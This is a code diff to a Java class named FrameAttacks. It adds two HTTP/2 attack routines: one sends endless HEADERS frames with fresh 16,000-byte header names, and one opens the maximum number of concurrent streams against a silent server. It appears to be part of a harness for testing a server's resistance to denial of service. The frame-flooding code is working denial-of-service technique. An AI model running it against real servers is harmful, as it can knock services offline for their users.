@@ -16,6 +16,7 @@ import java.io.ByteArrayOutputStream;
 import java.io.DataInputStream;
 import java.io.IOException;
 import java.net.Socket;
+import java.util.List;
 import java.util.function.BiConsumer;
 
 /** What clients of HTTP/2 can do to a node. */
@@ -23,7 +24,9 @@ final class FrameAttacks {
   private static final int CANCEL = 8;
   private static final int BATCH = 1000;
   private static final int STREAMS = 100;
+  private static final int MOST_STREAMS = 250;
   private static final int BOMBS = 50;
+  private static final int NAME_BYTES = 16_000;
 
   private static final byte[] RESETS =
       repeated((frames, id) -> frames.get(id, "/").number(RST_STREAM, id, CANCEL));
@@ -161,6 +164,33 @@ final class FrameAttacks {
     while (on.goesOn()) {
       on.send(socket, DRIPS);
     }
+  }
+
+  /** Names of fields that nobody has seen yet. */
+  static void newNames(Onslaught on, Socket socket) throws IOException {
+    Onslaught.watch(socket);
+    on.send(socket, Frames.preface().bytes());
+    String padding = "a".repeat(NAME_BYTES);
+    for (int stream = 1; on.goesOn(); stream += 2) {
+      var block = new ByteArrayOutputStream();
+      block.writeBytes(Frames.request("GET", "/"));
+      block.writeBytes(Frames.block(List.of("x" + on.number() + padding, "a")));
+      on.send(
+          socket,
+          new Frames()
+              .frame(HEADERS, END_HEADERS | END_STREAM, stream, block.toByteArray())
+              .bytes());
+    }
+  }
+
+  /** As many requests as a connection may have at a time, to a server that lets nobody in. */
+  static void requestsNobodyTakes(Onslaught on, Socket socket) throws IOException {
+    Frames frames = Frames.preface();
+    for (int i = 0; i < MOST_STREAMS; i++) {
+      frames.get(2 * i + 1, Silence.PATH);
+    }
+    on.send(socket, frames.bytes());
+    Onslaught.awaitEnd(socket);
   }
 
   private static void begin(Onslaught on, Socket socket, int window) throws IOException {
